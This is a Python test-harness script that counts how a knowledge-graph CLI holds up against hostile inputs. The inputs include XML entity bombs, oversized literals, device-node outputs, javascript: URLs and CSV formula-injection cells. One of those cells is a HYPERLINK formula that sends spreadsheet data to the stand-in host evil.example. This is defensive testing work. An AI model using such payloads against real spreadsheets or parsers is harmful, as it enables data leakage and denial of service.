"""Reliability rows for the hostile-input classes of issue 11 (defects 2-11 and 13).

Each class is tried with several inputs through the library or the CLI (CliRunner) and
counted: ``tried``, ``crashes`` (an exception or traceback escaping kg), and a ``failed``
count of the class's own harm (a release emptied, a device node replaced, a live formula
in a CSV cell, ...).  ``scripts/reliability.py`` prints them as rows of its table; the
tests in ``tests/security/test_security_inputs.py`` check each class one case at a time.

    python scripts/hostile_inputs.py      # just these rows
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import stat
import subprocess
import sys
import tempfile
import time
import unicodedata
from collections.abc import Callable
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
Row = tuple[str, str, str, str, str]  # class, tried, crashes, data lost / harm, kills survived


def _count(cases: list[Callable[[], bool]]) -> tuple[int, int, int]:
    """Run each case: (tried, crashes, failed); a case returns True when kg held."""
    crashes = failed = 0
    for case in cases:
        try:
            failed += not case()
        except Exception as exc:  # any escape is what this row counts
            print(f"crash: {type(exc).__name__}: {exc}"[:300], file=sys.stderr)
            crashes += 1
    return len(cases), crashes, failed


def _cli(*args: str) -> tuple[int, str]:
    from click.testing import CliRunner

    from kg.cli import cli

    res = CliRunner().invoke(cli, list(args))
    if res.exception is not None and not isinstance(res.exception, SystemExit):
        raise res.exception
    return res.exit_code, res.output


def _store(tmp: Path, name: str) -> str:
    from kg.store import open_store

    path = str(tmp / name)
    with open_store(path) as s:
        s.update("INSERT DATA { GRAPH <http://e/g> { <http://e/a> <http://e/b> 'c' } }")
    return path


def punctuation(tmp: Path) -> Row:
    """2: 1 MB runs of '.', '!', '?' split within 10x the linear share of a 10 KB run."""
    from kg.extract.sentences import split_sentences

    ratios = []

    def case(ch: str) -> bool:
        def best(n: int) -> float:
            times = []
            for _ in range(3):
                t = time.perf_counter()
                split_sentences("a" + ch * n + "x")
                times.append(time.perf_counter() - t)
            return min(times)

        ratios.append(best(1_000_000) / best(10_000))
        return ratios[-1] < 1000

    tried, crashes, failed = _count([lambda c=c: case(c) for c in ".!?"])
    worst = f"{max(ratios):.0f}" if ratios else "?"
    return (
        f"1 MB punctuation runs (ratio to 10 KB: {worst})",
        str(tried),
        str(crashes),
        f"{failed} nonlinear",
        "-",
    )


def rdf_files(tmp: Path) -> list[Row]:
    """3, 8, 13(ii): entity bombs, a 17 MiB literal, graphs kg owns; the good file still goes in."""
    from hostile_data import laughs

    from kg.vocab import iris
    from kg.vocab.ns import ID

    good = tmp / "good.ttl"
    good.write_text('<http://e/s> <http://e/p> "ok" .\n', encoding="utf-8")

    def refused(path: Path, *extra: str) -> bool:
        store = str(tmp / f"store-{path.stem}")
        code, out = _cli("--store", store, "import", "rdf", *extra, str(path), str(good))
        stats, _ = _cli("--store", store, "stats", "--json")
        return code == 3 and f"error: {path}" in out and "imported 1 file(s)" in out and stats == 0

    def bomb(levels: int) -> bool:
        path = tmp / f"laughs{levels}.rdf"
        path.write_text(laughs(levels), encoding="utf-8")
        return refused(path)

    def big() -> bool:
        path = tmp / "big.ttl"
        path.write_text('<http://e/s> <http://e/p> "' + "a" * (17 * 2**20) + '" .\n', encoding="utf-8")
        return refused(path)

    def reserved(graph: str) -> bool:
        path = tmp / f"{graph.replace('/', '-')}.trig"
        path.write_text(f'GRAPH <{ID[graph]}> {{ <http://e/s> <http://e/p> "x" . }}\n', encoding="utf-8")
        return refused(path)

    rows = []
    t, c, f = _count([lambda n=n: bomb(n) for n in range(1, 10)])
    rows.append(("RDF/XML entity bombs, 1-9 levels (refused)", str(t), str(c), f"{f} accepted", "-"))
    t, c, f = _count([big])
    rows.append(("Turtle literal over 16 MiB + a good file", str(t), str(c), f"{f} batch stopped", "-"))
    graphs = ["graph/reference", "graph/ontology", "graph/links", "graph/registry", "source/release/x"]
    assert str(iris.REFERENCE_GRAPH) == str(ID["graph/reference"])
    t, c, f = _count([lambda g=g: reserved(g) for g in graphs])
    rows.append(("RDF import into kg's own graphs (refused)", str(t), str(c), f"{f} replaced", "-"))
    return rows


def sipri_releases(tmp: Path) -> Row:
    """4: a worse file (all rows broken, most rows broken, a cut-off release) keeps the stored one."""
    from hostile_data import register

    from kg.store import open_store

    def deals(store: str) -> int:
        with open_store(store, read_only=True) as s:
            return s.stats()["deals"]

    def kept(name: str, rows: int, broken: int, when: str | None = None) -> bool:
        store = str(tmp / f"sipri-{name}")
        for sub in ("good", "bad"):
            (tmp / name / sub).mkdir(parents=True)
        _cli(
            "--store", store, "import", "sipri", "-q", str(register(tmp / name / "good" / "register.csv", 10))
        )
        kw = {"when": when} if when else {}
        bad = register(tmp / name / "bad" / "register.csv", rows, broken=broken, **kw)
        code, _ = _cli("--store", store, "import", "sipri", "-q", str(bad))
        return code == 3 and deals(store) == 10

    t, c, f = _count(
        [
            lambda: kept("all", 10, 10),
            lambda: kept("most", 10, 7),
            lambda: kept("cut", 3, 0, "2 Feb 2026 9:00:00 AM"),
        ]
    )
    return ("worse SIPRI re-imports (release kept)", str(t), str(c), f"{f} releases emptied", "-")


def outputs(tmp: Path) -> list[Row]:
    """5, 11: -o onto a FIFO, a char device and '-'; every written file 0644 minus the umask."""
    store = _store(tmp, "out-store")

    def fifo() -> bool:
        node = tmp / "fifo"
        os.mkfifo(node)
        reader = subprocess.Popen(["cat", str(node)], stdout=subprocess.DEVNULL)
        code, _ = _cli("--store", store, "export", "-o", str(node))
        reader.wait(timeout=30)
        return code == 0 and stat.S_ISFIFO(node.stat().st_mode)

    def chardev() -> bool:
        node = tmp / "null"
        if os.geteuid() == 0:
            os.mknod(node, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
        else:
            node = Path("/dev/null")
        code, _ = _cli("--store", store, "view", "network", "-o", str(node))
        return code == 0 and stat.S_ISCHR(node.stat().st_mode)

    def dash() -> bool:
        here = os.getcwd()
        os.chdir(tmp)
        try:
            code, out = _cli("--store", store, "export", "--format", "nq", "-o", "-")
        finally:
            os.chdir(here)
        return code == 0 and "<http://e/a>" in out and not (tmp / "-").exists()

    rows = []
    t, c, f = _count([fifo, chardev, dash])
    rows.append(("-o onto a FIFO, a device node, '-'", str(t), str(c), f"{f} nodes replaced", "-"))
    old = os.umask(0o022)
    try:
        written = [
            ("export", "-o", str(tmp / "m.trig")),
            ("network", "export", "--format", "gexf", "-o", str(tmp / "m.gexf")),
            ("network", "export", "--format", "csv", "-o", str(tmp / "m.csv")),
            ("view", "network", "-o", str(tmp / "m.html")),
        ]

        def mode(args: tuple[str, ...]) -> bool:
            _cli("--store", store, *args)
            return stat.S_IMODE(Path(args[-1]).stat().st_mode) == 0o644

        t, c, f = _count([lambda a=a: mode(a) for a in written])
    finally:
        os.umask(old)
    rows.append(("output files (mode 0644, umask 022)", str(t), str(c), f"{f} other modes", "-"))
    return rows


def articles(tmp: Path) -> list[Row]:
    """6, 9, 13(iii), 7: lone surrogates, NFD text, script URLs, an HTML article."""
    from kg.extract import article_from_text, extract, read_articles
    from kg.ingest.articles import import_articles
    from kg.store import open_store

    good = {"title": "G", "text": "Peru ordered 2 Rafale jets from France.", "url": "https://e.org/g"}
    rows = []

    def surrogate(field: str) -> bool:
        doc = {
            "title": "T",
            "text": "Chile ordered 4 Rafale jets from France.",
            "url": "https://e.org/" + field,
            "publisher": "P",
        }
        value = json.dumps(doc[field])
        line = json.dumps(doc).replace(value, value[:-1] + '\\ud800"', 1)
        path = tmp / f"sur-{field}.jsonl"
        path.write_text(json.dumps(good) + "\n" + line + "\n", encoding="utf-8")
        with open_store("memory:") as s:
            report = import_articles(s, [path], link_after=False)
        return len(report.written) == 2 and any(f"{path}:2:" in w for w in report.warnings)

    t, c, f = _count([lambda k=k: surrogate(k) for k in ("title", "text", "url", "publisher")])
    rows.append(("lone surrogates in JSONL fields", str(t), str(c), f"{f} articles lost", "-"))
    sentences = [
        "Türkiye ordered 36 Rafale jets from France in 2025.",
        "Côte d'Ivoire ordered 4 Rafale jets from France in 2024.",
        "Greece ordered 18 Rafale jets from France, the Défense ministry said.",
    ]

    def nfd(text: str) -> bool:
        composed = [c.to_dict()["quantity"] for c in extract(article_from_text(text))]
        decomposed = [
            c.to_dict()["quantity"] for c in extract(article_from_text(unicodedata.normalize("NFD", text)))
        ]
        return composed == decomposed and bool(composed)

    t, c, f = _count([lambda s=s: nfd(s) for s in sentences])
    rows.append(("NFD articles (claims as in NFC)", str(t), str(c), f"{f} claims lost", "-"))

    def url(value: str) -> bool:
        path = tmp / "url.json"
        path.write_text(json.dumps({**good, "url": value}), encoding="utf-8")
        with open_store("memory:") as s:
            import_articles(s, [path], link_after=False)
            return not s.ask("ASK { GRAPH ?g { ?a <https://schema.org/url> ?u } }")

    t, c, f = _count(
        [
            lambda u=u: url(u)
            for u in ("javascript:alert(1)", "data:text/html,<b>x</b>", "JAVASCRIPT:x", "https://e.org/\x01")
        ]
    )
    rows.append(("non-http(s) article URLs", str(t), str(c), f"{f} stored as schema:url", "-"))

    def html() -> bool:
        from hostile_data import HTML_ARTICLE

        path = tmp / "a.html"
        path.write_text(HTML_ARTICLE, encoding="utf-8")
        return all(not hasattr(item, "message") for item in read_articles(path))

    t, c, f = _count([html])
    rows.append(("HTML article (lxml_html_clean declared)", str(t), str(c), f"{f} unreadable", "-"))
    return rows


def spreadsheet(tmp: Path) -> Row:
    """13(i): formula-leading cells in ``kg query --format csv|tsv`` and the network CSV."""
    from kg.store import open_store

    cells = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\r=1"]
    store = str(tmp / "csv-store")
    with open_store(store) as s:
        values = ", ".join(json.dumps(c) for c in cells)
        s.update(f"INSERT DATA {{ GRAPH <http://e/g> {{ <http://e/a> <http://e/l> {values} }} }}")

    def query(fmt: str) -> bool:
        _, out = _cli("--store", store, "query", "--format", fmt, "SELECT ?v { GRAPH ?g { ?s ?p ?v } }")
        body = list(csv.reader(io.StringIO(out), delimiter="," if fmt == "csv" else "\t"))[1:]
        live = [r[0] for r in body if r and r[0][:1] in ("=", "+", "-", "@", "\t", "\r")]
        return len(body) == len(cells) and not live

    t, c, f = _count([lambda: query("csv"), lambda: query("tsv")])
    return (
        f"CSV/TSV formula cells ({len(cells)} per format)",
        str(t),
        str(c),
        f"{f} outputs with live formulas",
        "-",
    )


def disk_full(tmp: Path) -> Row:
    """10: an import onto a full 500 KB tmpfs prints one line (root and unshare only)."""
    if os.geteuid() != 0 or shutil.which("unshare") is None:
        return ("disk full (skipped: needs root)", "0", "-", "-", "-")
    full = tmp / "full"
    full.mkdir()
    script = (
        f"mount -t tmpfs -o size=500k tmpfs {full} || exit 99\n"
        f"{sys.executable} -m kg --store {full}/s import articles {REPO / 'data' / 'articles'}\n"
    )
    proc = subprocess.run(["unshare", "-m", "sh", "-c", script], capture_output=True, text=True, timeout=300)
    if proc.returncode == 99:
        return ("disk full (skipped: no tmpfs)", "0", "-", "-", "-")
    lines = proc.stderr.strip().splitlines()
    crash = int("Traceback" in proc.stderr)
    return ("disk full on import (one error line)", "1", str(crash), f"{len(lines)} stderr line(s)", "-")


def rows() -> tuple[list[Row], int]:
    """All rows and the number of bad outcomes (crashes + harms)."""
    out: list[Row] = []
    with tempfile.TemporaryDirectory(prefix="kg-hostile-") as d:
        tmp = Path(d)
        for part in (punctuation, rdf_files, sipri_releases, outputs, articles, spreadsheet, disk_full):
            sub = tmp / part.__name__
            sub.mkdir()
            got = part(sub)
            out.extend(got if isinstance(got, list) else [got])
    bad = 0
    for r in out:
        bad += int(r[2]) if r[2].isdigit() else 0
        harm = r[3].split()[0]
        if harm.isdigit() and not r[0].startswith("disk full"):
            bad += int(harm)
        elif r[0].startswith("disk full") and harm.isdigit() and harm != "1":
            bad += 1
    return out, bad


if __name__ == "__main__":
    found, n_bad = rows()
    for r in found:
        print(" | ".join(r))
    sys.exit(1 if n_bad else 0)
